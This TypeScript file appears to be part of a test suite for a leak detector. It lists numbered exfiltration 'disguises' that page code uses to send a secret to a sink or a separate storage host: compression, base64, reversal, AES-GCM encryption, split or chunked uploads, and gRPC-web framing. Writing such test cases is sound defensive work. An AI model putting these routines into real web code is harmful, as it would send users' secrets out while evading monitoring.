import { type Attack, row, type Secret, variant } from '../attack.ts';
import { note, post } from './bodies.ts';

async function compressed(secret: Secret, format: CompressionFormat): Promise<void> {
  const stream = new Blob([note(secret.text)]).stream().pipeThrough(new CompressionStream(format));
  await post(secret, await new Response(stream).arrayBuffer(), { 'content-type': 'application/octet-stream' });
}

async function encrypted(secret: Secret): Promise<void> {
  const key = await crypto.subtle.generateKey({ name: 'AES-GCM', length: 256 }, false, ['encrypt']);
  const iv = crypto.getRandomValues(new Uint8Array(12));
  const body = await crypto.subtle.encrypt({ name: 'AES-GCM', iv }, key, new TextEncoder().encode(secret.text));
  await post(secret, body, { 'content-type': 'application/octet-stream' });
}

/** Sends the value cut at the given places, one request after the other. */
async function cut(secret: Secret, ...places: readonly number[]): Promise<void> {
  let start = 0;
  for (const end of [...places, secret.value.length]) {
    await post(secret, note(secret.value.slice(start, end)));
    start = end;
  }
}

/** A gRPC-web message: five bytes of frame header, then a protobuf with the text as field 1 (protobuf.dev, "Encoding"). */
function grpc(text: string): Uint8Array<ArrayBuffer> {
  const plain = new TextEncoder().encode(text);
  const message = new Uint8Array([0x0a, plain.length, ...plain]);
  return new Uint8Array([0, 0, 0, 0, message.length, ...message]);
}

/** What page code does to a text before it sends it. */
export const DISGUISES: readonly Attack[] = [
  row('30', 'gzip by CompressionStream', (secret) => compressed(secret, 'gzip')),
  variant('30b', 'deflate by CompressionStream', (secret) => compressed(secret, 'deflate')),
  variant('30c', 'raw deflate by CompressionStream', (secret) => compressed(secret, 'deflate-raw')),
  row('31', 'base64 body', (secret) => post(secret, btoa(secret.text), { 'content-type': 'text/plain' })),
  row('32', 'reversed body', (secret) => post(secret, [...secret.text].reverse().join(''), { 'content-type': 'text/plain' })),
  row('33', 'AES-GCM by page code', encrypted, { sign: 'cipher' }),
  row('34', 'split over two requests', (secret) => cut(secret, 12), { sign: 'pieces' }),
  variant('34b', 'split over three requests', (secret) => cut(secret, 7, 14), { sign: 'pieces' }),
  variant('62', 'gRPC-web, protobuf', (secret) => post(secret, grpc(secret.text), { 'content-type': 'application/grpc-web+proto' })),
  variant(
    '63',
    'upload in chunks, cut inside the value',
    async (secret) => {
      const whole = new Blob([`${'A line of an ordinary file.\n'.repeat(40)}${secret.text}\n`]);
      const border = whole.size - 30;
      for (const [from, to] of [
        [0, border],
        [border, whole.size],
      ] as const) {
        const headers = { 'content-range': `bytes ${from}-${to - 1}/${whole.size}` };
        await fetch(`${secret.sink}upload`, { method: 'PUT', headers, body: whole.slice(from, to) });
      }
    },
    { sign: 'pieces' },
  ),
  variant('64', 'PUT straight to a storage host', (secret) =>
    fetch(`${secret.elsewhere}put`, { method: 'PUT', body: new Blob([secret.text]) }),
  ),
];
